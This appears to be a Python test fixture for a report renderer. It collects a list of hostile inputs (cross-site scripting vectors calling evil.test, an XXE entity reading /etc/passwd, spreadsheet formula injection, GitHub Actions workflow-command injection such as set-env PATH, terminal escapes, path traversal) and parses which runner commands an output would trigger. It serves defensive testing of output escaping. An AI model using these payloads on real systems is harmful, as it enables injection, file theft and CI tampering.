"""Text as a hostile page could write it, reports full of it, and what a build's runner would obey of an output."""

from __future__ import annotations

import re
from functools import cache
from typing import Any, NamedTuple

from driftwright.report.formats import json as machine
from kit import samples
from kit.stored import render

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys((
        *samples.PAYLOADS,
        # scripts and handlers
        "<ScRiPt>window.hit=1</sCrIpT>",
        "<script src=//evil.test/x.js></script>",
        "<svg><script>window.hit=1</script></svg>",
        "<body onload=window.hit=1>",
        "<details open ontoggle=window.hit=1>",
        "<video><source onerror=window.hit=1></video>",
        "<input autofocus onfocus=window.hit=1>",
        "<style>@import 'https://evil.test/a.css';*{background:url(https://evil.test/b)}</style>",
        "<object data=https://evil.test/x></object><embed src=https://evil.test/y>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
        "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
        "--><script>window.hit=1</script><!--",
        "</script><script>window.hit=1</script>",
        '"onmouseover="window.hit=1" x="',
        "`onmouseover=window.hit=1",
        "&lt;script&gt;window.hit=1&lt;/script&gt;&#x3C;img src=x onerror=window.hit=1>",
        "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
        "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
        "${window.hit=1}#{7*7}<%= 7*7 %>{{constructor.constructor('window.hit=1')()}}",
        "<base href=https://evil.test/><form action=https://evil.test/><button>x",
        # links
        "[x](javascript:window.hit=1)",
        "JaVaScRiPt:window.hit=1",
        "java\tscript:window.hit=1",
        "data:text/html,<script>window.hit=1</script>",
        "vbscript:window.hit=1",
        "<https://evil.test/>",
        "[x]: https://evil.test 'y'\n[x]",
        "//evil.test/x",
        "file:///etc/passwd",
        # Markdown
        "```\n# out of the fence\n```",
        "~~~\nout\n~~~",
        "````````````",
        "\\`x\\` `` ` ``",
        "a | b | c |\n| --- | --- |",
        "***bold*** __under__ ~~gone~~",
        "- [ ] task\n1. one\n> quote\n***\n===",
        "&commat;octocat \\@octocat @octocat/team",
        "#1 GH-1 owner/repo#1 0123456789abcdef0123456789abcdef01234567",
        ":tada: <!-- driftwright --> $x$ $$y$$ [^1]",
        # a build's runner
        "::error file=a,line=1::foreign",
        "   ::warning::foreign",
        "\t::add-mask::foreign",
        "\r\n::set-env name=PATH::/evil",
        "%0A::error::foreign%0D%0A::error::foreign",
        "##[add-mask]foreign",
        "x ##[error]foreign ###[warning]foreign",
        "::stop-commands::foreign",
        "::group::foreign\n::endgroup::",
        "a,line=2,title=x::error::foreign",
        # terminals
        "\x1b]0;title\x07\x1b[2J\x1b[H",
        "\x1b]8;;https://evil.test\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31m\x9d0;x\x9c\x90x\x9c",
        "a\rb\x08c\x7f\x0b\x0c\x85",
        "\u202ecod.exe\u2067\u2068\u2069\u061c\u200e",
        "[/red][bold][link=https://evil.test]x[/link]",
        # documents
        "\x00\x01\x02\ufffe\uffff\udfff\ud800",
        "]]></failure><testcase name='foreign'/>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "{0} {foreign} {{x}} [link](0) [y](https://evil.test) \\[z]",
        '{"kind": "fact"}\n{"kind": "fact"}',
        # spreadsheets
        "=cmd|' /C calc'!A0",
        "+1+cmd",
        "@SUM(1+1)*cmd",
        "-2+3",
        # names of files
        "../../x",
        "/etc/passwd",
        "CON",
        "-rf",
        "a" * 300,
        "x\x00.json",
    ))
)  # fmt: skip


class Command(NamedTuple):
    """A workflow command that a runner would carry out."""

    name: str
    properties: dict[str, str]
    data: str


def commands(output: str) -> list[Command]:
    """Return the commands that GitHub's runner takes out of an output, told from how it reads a line.

    It looks for `::name properties::data` at the start of a line, whatever white space stands before it, and for the
    older `##[name properties]data` anywhere in a line.
    """
    commands_run = []
    for line in re.split(r"\r\n|\r|\n", output):
        start = line.lstrip()
        end = start.find("::", 2)
        if start.startswith("::") and end > 0:
            commands_run.append(_command(start[2:end], start[end + 2 :], ","))
            continue
        at = line.find("##[")
        if at >= 0 and "]" in line[at:]:
            inside, _, data = line[at + 3 :].partition("]")
            commands_run.append(_command(inside, data, ";"))
    return commands_run


def _command(head: str, data: str, joint: str) -> Command:
    name, _, rest = head.partition(" ")
    pairs = (part.partition("=") for part in rest.split(joint) if part)
    return Command(name, {key.strip(): _unescaped(value, more=True) for key, _, value in pairs}, _unescaped(data))


def _unescaped(text: str, *, more: bool = False) -> str:
    text = text.replace("%0D", "\r").replace("%0A", "\n")
    if more:
        text = text.replace("%3A", ":").replace("%2C", ",")
    return text.replace("%25", "%")


@cache
def hostile(payload: str, name: str = "broken") -> dict[str, Any]:
    """Return a report that holds `payload` wherever its schema leaves the text open; shared, never to be changed."""
    record: dict[str, Any] = samples.poisoned(samples.sample(name), machine.schema(), payload)
    return record


def of_findings(count: int) -> dict[str, Any]:
    """Return a report of so many broken facts."""
    record = samples.sample("broken")
    fact = next(fact for fact in record["facts"] if fact["verdict"] == "broken")
    record["facts"] = [
        {
            **fact,
            "name": f"fact_{number}",
            "fingerprint": f"{number:012x}",
            "findings": [{**fact["findings"][0], "fingerprint": f"{number:012x}"}],
        }
        for number in range(count)
    ]
    record["summary"] = {**dict.fromkeys(record["summary"], 0), "facts": count, "broken": count}
    return record


@cache
def rendered(payload: str, form: str, name: str = "broken") -> str:
    """Return such a report in one format."""
    return render(hostile(payload, name), form)
